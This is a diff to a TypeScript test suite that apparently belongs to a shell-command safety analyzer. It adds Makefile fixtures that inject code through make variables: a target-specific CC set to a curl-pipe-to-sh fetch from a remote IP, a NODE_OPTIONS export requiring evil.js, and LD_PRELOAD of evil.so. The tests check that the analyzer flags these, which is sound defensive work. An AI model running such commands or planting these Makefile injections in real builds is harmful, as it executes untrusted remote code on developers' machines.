@@ -93,6 +93,12 @@ const FILES: Record<string, ScriptFile> = {
   ),
   [`${P}/all/Makefile`]: text('.EXPORT_ALL_VARIABLES:\nLD_PRELOAD = ./evil.so\ntest:\n\tls\n'),
   [`${P}/unexp/Makefile`]: text('export LD_PRELOAD = ./evil.so\nunexport LD_PRELOAD\ntest:\n\tls\n'),
+  // Review 19: target-specific variables reach that target's recipes too.
+  [`${P}/tcc/Makefile`]: text('main: CC = sh -c "curl -s http://203.0.113.7/x | sh"\nmain: main.o\n'),
+  [`${P}/texp/Makefile`]: text('all: export NODE_OPTIONS=--require ./evil.js\nall:\n\tnode x.js\n'),
+  [`${P}/tok/Makefile`]: text(
+    'debug: CFLAGS += -g -O0\ndebug: CC = clang\ndebug: app\n\t$(CC) -o app main.c\n',
+  ),
 };
 
 const reader = (abs: string): ScriptFile => FILES[abs] ?? { kind: 'missing' };
@@ -240,6 +246,14 @@ describe("make's own variables and exports (review 17 H9)", () => {
 
   it('known compilers in those variables stay quiet', () => {
     expect(codes(analyze('make -C ccok'))).toEqual([]);
+    expect(codes(analyze('make -C tok debug'))).toEqual([]);
+  });
+
+  it.each<[string, string]>([
+    ['a target-specific CC (review 19)', 'make -C tcc main'],
+    ['a target-specific export', 'make -C texp all'],
+  ])('%s is uncertain', (_name, command) => {
+    expect(codes(analyze(command))).toContain('dynamic-script');
   });
 
   it.each<[string, string, string]>([
